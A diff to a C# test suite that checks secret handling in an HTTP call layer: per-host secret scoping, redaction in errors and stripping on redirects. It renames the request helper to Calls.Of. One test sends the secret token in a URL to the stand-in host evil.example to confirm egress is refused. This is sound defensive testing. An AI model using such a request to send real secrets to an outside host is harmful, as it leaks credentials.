@@ -24,7 +24,7 @@ public sealed class SecretCallsTests
         using var server = new LoopbackServer(request => LoopbackServer.Response("200 OK", $"X-Echo: {Header(request, "Authorization")}\r\nX-Basic: {Header(request, "X-Basic")}\r\nContent-Type: text/plain\r\n", request));
         using var http = Http("127.0.0.1");
         var basic = "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes($"ann:{Token}"));
-        var answer = await http.SendAsync(Call(server.Url($"/a?key={Token}"), $$"""{"t":"{{Token}}"}""", ("Authorization", $"Bearer {Token}"), ("X-Basic", basic)), Local, Cancel);
+        var answer = await http.SendAsync(Calls.Of(server.Url($"/a?key={Token}"), $$"""{"t":"{{Token}}"}""", ("Authorization", $"Bearer {Token}"), ("X-Basic", basic)), Local, Cancel);
 
         Assert.Null(answer.Error);
         var sent = Assert.Single(server.Requests);
@@ -62,7 +62,7 @@ public sealed class SecretCallsTests
         using var http = Http("127.0.0.1");
 
         // Also in the answer to a call that took no secret along.
-        var answer = await http.SendAsync(Call(server.Url()), Local, Cancel);
+        var answer = await http.SendAsync(Calls.Of(server.Url()), Local, Cancel);
 
         Assert.Null(answer.Error);
         Assert.Matches(@"\Abefore \S+ after\z", Encoding.UTF8.GetString(Convert.FromBase64String(answer.Body!)));
@@ -74,7 +74,7 @@ public sealed class SecretCallsTests
     {
         using var server = new LoopbackServer(_ => Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nyou sent {Value}\r\n\r\n"));
         using var http = Http("127.0.0.1");
-        var error = (await http.SendAsync(Call(server.Url(), null, ("X", Token)), Local, Cancel)).Error!;
+        var error = (await http.SendAsync(Calls.Of(server.Url(), null, ("X", Token)), Local, Cancel)).Error!;
         Assert.Contains($"you sent {Token}", error.Message, StringComparison.Ordinal);
         Assert.DoesNotContain("s3cr3t", error.ToString(), StringComparison.Ordinal);
     }
@@ -84,7 +84,7 @@ public sealed class SecretCallsTests
     {
         using var server = new LoopbackServer(_ => LoopbackServer.Response("200 OK"));
         using var http = Http("api.shop.example", "*.shop.example:8443");
-        var error = (await http.SendAsync(Call(server.Url(), null, ("Authorization", $"Bearer {Token}")), Local, Cancel)).Error!;
+        var error = (await http.SendAsync(Calls.Of(server.Url(), null, ("Authorization", $"Bearer {Token}")), Local, Cancel)).Error!;
 
         Assert.Equal(("SecretError", ErrorCodes.Secret), (error.Name, error.Code));
         Assert.Equal($"The secret 'TOKEN' is not for the host '127.0.0.1:{server.Port}', so nothing was sent there; the hosts that get it are listed in `secrets.TOKEN.hosts` of codestep.yaml: api.shop.example, *.shop.example:8443.", error.Message);
@@ -95,7 +95,7 @@ public sealed class SecretCallsTests
     public async Task Egress_comes_first()
     {
         using var http = Http("evil.example");
-        Assert.Equal(ErrorCodes.EgressRefused, (await http.SendAsync(Call("http://evil.example/" + Token), Local, Cancel)).Error!.Code);
+        Assert.Equal(ErrorCodes.EgressRefused, (await http.SendAsync(Calls.Of("http://evil.example/" + Token), Local, Cancel)).Error!.Code);
     }
 
     [Fact]
@@ -104,7 +104,7 @@ public sealed class SecretCallsTests
         using var outside = new LoopbackServer(_ => LoopbackServer.Response("200 OK", "", "there"));
         using var server = new LoopbackServer(_ => LoopbackServer.Response("302 Found", $"Location: {outside.Url("/x", "localhost")}\r\n"));
         using var http = Http("127.0.0.1");
-        var answer = await http.SendAsync(Call(server.Url("/?k=" + Token), null, ("X-Plain", $"a {Token}"), ("X-Basic", "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(Token + ":"))), ("X-Other", "stays")), Local, Cancel);
+        var answer = await http.SendAsync(Calls.Of(server.Url("/?k=" + Token), null, ("X-Plain", $"a {Token}"), ("X-Basic", "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(Token + ":"))), ("X-Other", "stays")), Local, Cancel);
 
         Assert.Null(answer.Error);
         Assert.Contains($"X-Plain: a {Value}\r\n", Assert.Single(server.Requests), StringComparison.Ordinal);
@@ -122,7 +122,7 @@ public sealed class SecretCallsTests
         using var outside = new LoopbackServer(_ => LoopbackServer.Response("200 OK", "", "there"));
         using var server = new LoopbackServer(_ => LoopbackServer.Response(status, $"Location: {outside.Url(path, "localhost")}\r\n"));
         using var http = Http("127.0.0.1");
-        var error = (await http.SendAsync(Call(server.Url(), $"token={Token}", ("content-type", "application/x-www-form-urlencoded")), Local, Cancel)).Error!;
+        var error = (await http.SendAsync(Calls.Of(server.Url(), $"token={Token}", ("content-type", "application/x-www-form-urlencoded")), Local, Cancel)).Error!;
 
         Assert.Equal(ErrorCodes.Secret, error.Code);
         Assert.Contains($"'localhost:{outside.Port}'", error.Message, StringComparison.Ordinal);
@@ -136,7 +136,7 @@ public sealed class SecretCallsTests
         using var next = new LoopbackServer(_ => LoopbackServer.Response("200 OK", "", "there"));
         using var server = new LoopbackServer(_ => LoopbackServer.Response("307 Temporary Redirect", $"Location: {next.Url($"/x?t={Uri.EscapeDataString(Value)}")}\r\n"));
         using var http = Http("127.0.0.1");
-        var answer = await http.SendAsync(Call(server.Url(), Token, ("content-type", "text/csv")), Local, Cancel);
+        var answer = await http.SendAsync(Calls.Of(server.Url(), Token, ("content-type", "text/csv")), Local, Cancel);
 
         Assert.Null(answer.Error);
         Assert.Equal(next.Url($"/x?t={Uri.EscapeDataString(Token)}"), answer.Url);
@@ -162,12 +162,4 @@ public sealed class SecretCallsTests
         new(TimeProvider.System, new BoundSecrets(new Dictionary<string, SecretSettings> { ["TOKEN"] = new(Value, hosts) }, Placeholders));
 
     private static string Header(string request, string name) => request.Split("\r\n").First(line => line.StartsWith(name + ": ", StringComparison.OrdinalIgnoreCase))[(name.Length + 2)..];
-
-    private static HttpCall Call(string url, string? body = null, params (string Name, string Value)[] headers) => new(
-        1,
-        body is null ? "GET" : "POST",
-        url,
-        [.. headers.Select(header => KeyValuePair.Create(header.Name, header.Value))],
-        body is null ? null : Convert.ToBase64String(Encoding.UTF8.GetBytes(body)),
-        null);
 }
